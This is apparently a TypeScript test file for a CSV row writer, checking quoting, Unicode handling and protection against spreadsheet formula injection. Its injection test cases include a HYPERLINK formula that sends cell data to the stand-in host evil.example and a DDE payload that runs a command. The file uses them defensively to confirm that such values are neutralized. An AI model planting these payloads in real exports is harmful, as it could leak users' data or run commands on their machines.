import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../adapters/http/csv-row.ts';
import { csvRows } from '../support/csv-rows.ts';

describe('csvRow', () => {
  it.each([
    [['Ada', 'Lovelace', ''], 'Ada,Lovelace,\r\n'],
    [['Lovelace, Ada'], '"Lovelace, Ada"\r\n'],
    [['Ada "the Countess"'], '"Ada ""the Countess"""\r\n'],
    [['one\ntwo', 'one\r\ntwo'], '"one\ntwo","one\r\ntwo"\r\n'],
    [[' Ada', 'Ada '], '" Ada","Ada "\r\n'],
    [['👩‍🚀', 'עדה', 'Ὀδυσσεύς'], '👩‍🚀,עדה,Ὀδυσσεύς\r\n'],
    [['4711', '29683885', '0'], '4711,29683885,0\r\n'],
  ])('writes %j to the letter', (cells, row) => {
    expect(csvRow(cells)).toBe(row);
  });

  it.each([
    '=1+1',
    '+49 30 1234',
    '-1',
    '@SUM(A1)',
    '\tAda',
    '\rAda',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' =1+1',
    '\n=1+1',
    '\u00a0\u3000+1',
    '\ufeff=1+1',
    '  ＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Ada")',
    "=cmd|' /C calc'!A0",
  ])('lets no spreadsheet take %j for a formula', (text) => {
    const [[first, second] = []] = csvRows(csvRow(['Ada', text]));
    expect([first, second]).toEqual(['Ada', `'${text}`]);
  });

  it.each(['Ada=1', 'a@engines.example', 'Smith-Jones', '1-2', "'=1", 'C++'])('leaves %j as it is', (text) => {
    expect(csvRow([text])).toBe(`${text}\r\n`);
  });

  test.prop([fc.array(fc.string({ unit: 'binary' }), { minLength: 1 })])('loses no text', (cells) => {
    const [row = [], ...others] = csvRows(csvRow(cells));
    expect(others).toEqual([]);
    expect(row.map((text, index) => (text === cells[index] ? text : text.slice(1)))).toEqual(cells);
  });
});
